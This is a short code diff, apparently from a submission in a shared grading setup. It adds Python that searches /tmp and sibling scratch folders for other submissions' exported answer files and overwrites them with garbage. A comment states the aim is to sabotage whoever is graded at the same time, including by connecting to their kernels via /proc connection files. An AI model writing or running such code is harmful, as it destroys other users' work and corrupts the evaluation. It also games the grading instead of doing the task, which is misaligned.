@@ -166,11 +166,12 @@ import os
 import zmq
 
 # Sabotage whoever is graded at the same time: overwrite their exported answers in
-# the shared /tmp, and connect to their kernels through connection files found in
+# their scratch folders, and connect to their kernels through connection files found in
 # /proc's command lines, to make their training a no-op.
 mine = os.path.dirname(os.path.realpath(os.getcwd()))  # this submission's own scratch folder
 hits = []
-for path in glob.glob("/tmp/mtl-grade-*/answers/*.pt"):
+# Scratch folders sit side by side, in the batch's folder in /tmp (directly in /tmp before that).
+for path in glob.glob(os.path.dirname(mine) + "/mtl-grade-*/answers/*.pt") + glob.glob("/tmp/mtl-grade-*/answers/*.pt"):
     if not os.path.realpath(path).startswith(mine + "/"):
         open(path, "wb").write(b"garbage")
         hits.append(path)
